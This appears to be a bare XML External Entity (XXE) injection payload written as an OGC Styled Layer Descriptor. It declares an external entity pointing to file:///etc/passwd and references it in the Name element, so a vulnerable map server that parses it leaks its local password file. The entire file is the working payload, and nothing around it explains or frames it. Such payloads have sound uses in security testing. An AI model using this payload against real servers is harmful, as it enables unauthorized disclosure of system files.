<?xml version="1.0"?>
<!DOCTYPE StyledLayerDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<StyledLayerDescriptor xmlns="http://www.opengis.net/sld"><Name>&xxe;</Name></StyledLayerDescriptor>
